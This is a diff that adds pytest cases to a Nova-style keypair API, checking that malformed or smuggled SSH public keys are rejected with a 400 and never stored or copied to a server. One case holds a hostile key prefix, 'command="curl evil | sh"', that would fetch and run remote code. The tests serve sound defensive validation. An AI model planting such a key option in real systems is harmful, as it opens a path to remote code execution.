@@ -7,9 +7,12 @@ import subprocess
 
 import pytest
 from cryptography.hazmat.primitives import serialization
-from cryptography.hazmat.primitives.asymmetric import ed25519
+from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
 
+from pyct_driver.api import ssh_keys
 from pyct_driver.db import instances as db_instances
+from pyct_driver.db import keypairs as db_keypairs
+from pyct_driver.db import models
 from tests.unit.test_api_app import Harness
 
 
@@ -168,3 +171,90 @@ def test_key_name_at_boot_must_exist_and_is_stored():
     sid = h.boot(key_name="mine")["id"]
     inst = db_instances.get(h.db, sid)
     assert inst["key_data"] == pub and inst["key_name"] == "mine"
+
+
+ONE_LINE = "Keypair data is invalid: a public key must be one line holding " \
+    "one key"
+NOVA_400 = "Keypair data is invalid: failed to generate fingerprint"
+BAD_KEYS = {
+    # Nova (cryptography) reads the first line only and stores the rest
+    "second-key": (lambda: _pubkey() + "\n" + _pubkey(), ONE_LINE),
+    "second-key-cr": (lambda: _pubkey() + "\r" + _pubkey(), ONE_LINE),
+    "second-key-u2028": (lambda: _pubkey() + "\u2028" + _pubkey(),
+                         ONE_LINE),
+    # this one answered 500 (cryptography's UnsupportedAlgorithm)
+    "command-prefix": (lambda: 'command="curl evil | sh" ' + _pubkey(),
+                       NOVA_400),
+    "options-prefix": (lambda: "no-pty,no-port-forwarding " + _pubkey(),
+                       NOVA_400),
+    "unknown-type": (lambda: "ssh-foo " + _pubkey().split()[1], NOVA_400),
+    "type-mismatch": (lambda: "ssh-rsa " + _pubkey().split()[1], NOVA_400),
+    "truncated-base64": (lambda: " ".join(
+        (_pubkey().split()[0], _pubkey().split()[1][:-7])), NOVA_400),
+    "bad-base64": (lambda: "ssh-ed25519 AAAA$$$$", NOVA_400),
+    "empty": (lambda: "", NOVA_400),
+    "blank": (lambda: " \n", NOVA_400),
+    "dsa": (lambda: "ssh-dss AAAAB3NzaC1kc3MAAACBAP+dsa me@host",
+            "Keypair data is invalid: ssh-dss (DSA) keys are not "
+            "supported; use ssh-ed25519, ecdsa-sha2-nistp256 or ssh-rsa"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(BAD_KEYS))
+def test_bad_public_key_is_novas_400_and_stores_nothing(case):
+    make, message = BAD_KEYS[case]
+    h = Harness()
+    resp = h.request("POST", "/v2.1/os-keypairs", {"keypair": {
+        "name": "bad", "public_key": make()}}, version="2.37")
+    assert (resp.status_int, resp.json) == (400, {"badRequest": {
+        "code": 400, "message": message}})
+    assert h.request("GET", "/v2.1/os-keypairs",
+                     version="2.37").json == {"keypairs": []}
+    with h.db.session() as session:
+        assert session.query(models.KeyPair).count() == 0
+
+
+def test_x509_with_anything_around_the_certificate_is_400():
+    h = Harness()
+    pem = ssh_keys.generate(ssh_keys.X509, "alice")[1]
+    for data in (_pubkey() + "\n" + pem, pem + _pubkey() + "\n", pem + pem):
+        resp = h.request("POST", "/v2.1/os-keypairs", {"keypair": {
+            "name": "c", "type": "x509", "public_key": data}},
+            version="2.37")
+        assert (resp.status_int, resp.json["badRequest"]["message"]) == (
+            400, "Keypair data is invalid: failed to generate X509 "
+            "fingerprint. Error message: the data must be one PEM "
+            "certificate and nothing else")
+    with h.db.session() as session:
+        assert session.query(models.KeyPair).count() == 0
+
+
+@pytest.mark.parametrize("key_type", ["ed25519", "rsa", "ecdsa"])
+def test_a_pub_file_as_read_is_accepted_as_given(key_type):
+    h = Harness()
+    key = {"ed25519": ed25519.Ed25519PrivateKey.generate,
+           "rsa": lambda: rsa.generate_private_key(65537, 2048),
+           "ecdsa": lambda: ec.generate_private_key(ec.SECP384R1())}[
+               key_type]()
+    pub = key.public_key().public_bytes(
+        serialization.Encoding.OpenSSH,
+        serialization.PublicFormat.OpenSSH).decode() + " me@my laptop\n"
+    resp = h.request("POST", "/v2.1/os-keypairs", {"keypair": {
+        "name": "k", "public_key": pub}}, version="2.37")
+    assert resp.status_int == 201, resp.text
+    assert resp.json["keypair"]["public_key"] == pub
+
+
+def test_key_stored_unchecked_cannot_boot():
+    """A key stored before import checked keys (straight into the table
+    here) is refused at boot rather than copied to the server."""
+    h = Harness()
+    h.add_host("node1")
+    db_keypairs.create(h.db, "alice", "legacy",
+                       "no-pty " + _pubkey() + "\n" + _pubkey(), "f")
+    resp = h.request("POST", "/v2.1/servers", {"server": {
+        "name": "vm", "imageRef": h.image["id"], "flavorRef": "1",
+        "networks": "none", "key_name": "legacy"}}, version="2.37")
+    assert (resp.status_int, resp.json["badRequest"]["message"]) == (
+        400, ONE_LINE)
+    assert db_instances.list_(h.db) == [] and h.compute.calls == []
